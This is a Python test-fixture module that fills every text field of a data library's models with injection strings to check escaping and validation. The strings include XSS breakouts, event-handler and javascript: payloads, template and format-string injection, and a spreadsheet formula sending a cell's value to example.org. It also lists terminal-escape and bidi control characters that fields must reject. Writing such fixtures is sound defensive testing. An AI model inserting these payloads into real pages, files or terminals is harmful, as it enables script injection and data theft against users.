"""Models in which every field that a file can set holds a text that would rather be something else.

The fields are those of the classes themselves: one that is added is filled by its rule, like the others.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence
from typing import Any

import attrs

from partnermodel import PartnerModel, Relation, RelationTerm, Term, Vocabulary
from partnermodel.model.entities import ENTITY_CLASSES, Document, Entity
from partnermodel.values.citations import Citation
from partnermodel.values.fields import ID_RULE, LANGUAGE_RULE
from partnermodel.values.rules import Choice, Flag, Instance, Json, Many, Pairs, Rule, Text, Whole, rules_of
from partnermodel.vocabulary.terms import NATURES
from partnermodel.vocabulary.vocabulary import RELATION

LABELS: Mapping[str, str] = {
    "script": "</script><script>pwned('script')</script>",
    "style": "</style><script>pwned('style')</script><style>*{display:none}",
    "title": "</title></head><body onload=pwned('title')>",
    "textarea": "</textarea></template></noscript><script>pwned('textarea')</script>",
    "image": "<img src=x onerror=pwned('image')>",
    "drawing": "</text></svg><svg onload=pwned('drawing')><script>pwned('drawing')</script>",
    "foreign": "<math><mtext><table><mglyph><style><img src=x onerror=pwned('foreign')></style></mtext>",
    "double quote": "\" autofocus tabindex=1 onfocus=\"pwned('double quote')",
    "single quote": "' autofocus onfocus='pwned(1)' onmouseover='pwned(1)",
    "backquote": "` onmouseover=`pwned(1)`",
    "address": "javascript:pwned('address')",
    "data": "data:text/html,<script>parent.pwned('data')</script>",
    "link": "<a href=\"javascript:pwned('link')\" autofocus onfocus=\"pwned('link')\">here</a>",
    "frame": "<iframe srcdoc=\"<script>parent.pwned('frame')</script>\"></iframe>",
    "refresh": '<meta http-equiv=refresh content="0;url=https://example.org/refresh">',
    "base": "<base href=https://example.org/base/><link rel=stylesheet href=https://example.org/a.css>",
    "expression": "x;background:url(https://example.org/a.png);width:expression(pwned(1))}*{display:none}",
    "import": "*/ @import 'https://example.org/b.css'; /*",
    "comment": "--><script>pwned('comment')</script><!-- -->",
    "section": "]]><script>pwned('section')</script><![CDATA[",
    "plain text": "<plaintext><xmp><listing>",
    "entity": "&lt;script&gt;pwned(1)&lt;/script&gt;&#60;img src=x onerror=pwned('entity')&#62;",
    "escape": "\\u003cscript\\u003epwned('escape')\\u003c/script\\u003e \\x3cimg src=x\\x3e",
    "template": "{{constructor.constructor('pwned(1)')()}} ${pwned('template')} <%= 7*7 %> #{7*7}",
    "format": "%s %n {0.__class__} {name!r} $name",
    "formula": "$\\href{javascript:pwned('formula')}{x}$ \\(\\unicode{x}\\) $$",
    "spreadsheet": "=HYPERLINK(\"https://example.org/\"&A1,'x')",
    "wide": "＜script＞pwned('wide')＜/script＞ﹼ",
    "from right to left": "\u200fמרכז </span> (Omsk) مركز\u200e",
}
"""Texts that a model may hold. What of them runs calls `pwned`; what of them loads asks example.org."""

REFUSED = (
    "\x00",
    "\x07",
    "\b\b\b",
    "\r",
    "\x1b[2J",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://example.org/\x1b\\link\x1b]8;;\x1b\\",
    "\x7f",
    "\x9b31m",
    "\x85",
    "\u2028",
    "\u202ereversed",
    "\u202aembedded\u202c",
    "\u2066isolated\u2069",
    "\ufeffmarked",
)
"""Pieces of text that no field takes: what moves a cursor, rings, colours, or turns what follows."""

ENDS = {
    "tie": ("organisation-set",),
    "participation": ("initiative", "programme"),
    "provision": ("group",),
    "structure": ("place", "statement"),
}
"""To what an organisation of the models is linked, by the nature of the relation."""

_WORDS = ("ru-Latn", "RU-OMS")


def fitted(rule: Text, label: str, place: int) -> str:
    """Return a text that a rule accepts, and that has as much of the label in it as the rule allows."""
    tight = "".join(letter for letter in label if letter not in " /") + f"-{place}"
    bare = "".join(letter for letter in label if letter not in ' "<>\\^`{|}')
    wishes = (
        label,
        tight,
        f"https://example.org/?{bare}",
        f"owner:{label}",
        *_WORDS,
        f"zz-code-{place}",
        "2024",
    )
    return next(wish for wish in wishes if rule.accepts(wish))


def value(rule: Rule, label: str, place: int) -> Any:
    """Return a value that a rule accepts, with the label wherever a text may stand in it."""
    match rule:
        case Text():
            return fitted(rule, label, place)
        case Choice():
            return rule.choices[0]
        case Flag():
            return True
        case Whole():
            return min(place + 3, rule.maximum)
        case Json():
            return {label: [label, {label: label}]}
        case Many():
            return (value(rule.item, label, place),)
        case Pairs() if rule.key is LANGUAGE_RULE:
            return {tag: value(rule.value, label, place) for tag in ("en", "ru", "tt-Cyrl")}
        case Pairs():
            return {fitted(rule.key, label, place): value(rule.value, label, place)}
        case Instance():
            return filled(rule.cls, label, place)
    raise TypeError(f"no value is known for {rule}")


def filled(cls: type, label: str, place: int, **given: Any) -> Any:
    """Return an instance of a class of which every field is filled, except as given."""
    withheld: frozenset[str] = getattr(cls, "withheld", frozenset())
    made = {
        name: value(rule, label, place)
        for name, rule in rules_of(cls).items()
        if name not in withheld and name not in given
    }
    return cls(**made, **given)


def model_of(labels: Sequence[str]) -> PartnerModel:
    """Return a model with a record of every class, filled to the last field, for each label."""
    records: list[Entity | Relation] = []
    for place, label in enumerate(labels):
        records += _records(label, place)
    return PartnerModel(" ".join(labels), records, vocabulary=_vocabulary(labels), language="en")


def hostile() -> PartnerModel:
    """Return the model of all the labels."""
    return model_of(list(LABELS.values()))


def dense() -> PartnerModel:
    """Return a small model of the same labels, many of them in each text."""
    labels = list(LABELS.values())
    return model_of([" ".join(labels[first::2]) for first in range(2)])


def meek() -> PartnerModel:
    """Return a model of the same shape, whose texts are only texts."""
    return model_of([f"Plain words {place}" for place in range(len(LABELS))])


def _records(label: str, place: int) -> Iterator[Entity | Relation]:
    source = f"zz-source-{place}"
    evidence = (filled(Citation, label, place, document=source),)
    yield filled(Document, label, place, id=source, evidence=evidence)
    ids: dict[str, str] = {}
    for cls in ENTITY_CLASSES:
        for collective in (False, True):
            if cls.scheme != "organisation" and collective:
                continue
            id = f"{fitted(ID_RULE, label, place)}-{cls.scheme}{'-set' * collective}"
            ids[f"{cls.scheme}{'-set' * collective}"] = id
            flag = {} if "collective" in cls.withheld else {"collective": collective}
            yield filled(cls, label, place, id=id, evidence=evidence, **flag)
    for nature, ends in ENDS.items():
        for end in ends:
            yield filled(
                Relation,
                label,
                place,
                id=None,
                source=ids["organisation"],
                kind=f"zz-{nature}-{place}",
                target=ids[end],
                evidence=evidence,
            )
    yield Relation(ids["initiative"], "located-in", ids["place"], evidence=evidence)


def _vocabulary(labels: Sequence[str]) -> Vocabulary:
    plain = {"broader": None, "replaced_by": None}
    terms, relations = [], []
    for place, label in enumerate(labels):
        code = f"zz-code-{place}"
        schemes = {*Vocabulary().schemes, code} - {RELATION}
        terms += [filled(Term, label, place, scheme=scheme, code=code, **plain) for scheme in sorted(schemes)]
        relations += [
            filled(
                RelationTerm,
                label,
                place,
                code=f"zz-{nature}-{place}",
                nature=nature,
                sources=(),
                targets=(),
                symmetric=False,
                acyclic=False,
                **plain,
            )
            for nature in NATURES
        ]
    return Vocabulary(terms, relations)


def text_fields() -> Iterator[tuple[type, str]]:
    """Yield each field that holds a text in a class of which a file makes instances, with its class."""
    seen: set[type] = set()
    waiting: list[type] = [*ENTITY_CLASSES, Relation, Term, RelationTerm]
    while waiting:
        cls = waiting.pop(0)
        if cls in seen:
            continue
        seen.add(cls)
        withheld: frozenset[str] = getattr(cls, "withheld", frozenset())
        for name, rule in rules_of(cls).items():
            if name in withheld:
                continue
            if _holds_text(rule):
                yield cls, name
            waiting += [inner.cls for inner in _rules_in(rule) if isinstance(inner, Instance)]


def _rules_in(rule: Rule) -> Iterator[Rule]:
    yield rule
    if isinstance(rule, Many):
        yield from _rules_in(rule.item)
    elif isinstance(rule, Pairs):
        yield from _rules_in(rule.value)


def _holds_text(rule: Rule) -> bool:
    return any(isinstance(one, Text | Json) for one in _rules_in(rule))


def attacked(instance: Any, name: str, piece: str) -> Iterator[Any]:
    """Yield functions that put a piece of text into a field: at its end, and in each of its texts alone."""
    held = getattr(instance, name if hasattr(instance, name) else f"_{name}")
    for changed in _with(held, piece):
        yield lambda changed=changed: attrs.evolve(instance, **{name: changed})


def _with(held: Any, piece: str) -> Iterator[Any]:
    if isinstance(held, str):
        yield held + piece
        yield piece
    elif isinstance(held, Mapping):
        for key, inner in held.items():
            rest = {other: kept for other, kept in held.items() if other != key}
            yield {**rest, key + piece: inner}
            yield from ({**rest, key: changed} for changed in _with(inner, piece))
    elif isinstance(held, tuple):
        for place, inner in enumerate(held):
            yield from ((*held[:place], changed, *held[place + 1 :]) for changed in _with(inner, piece))
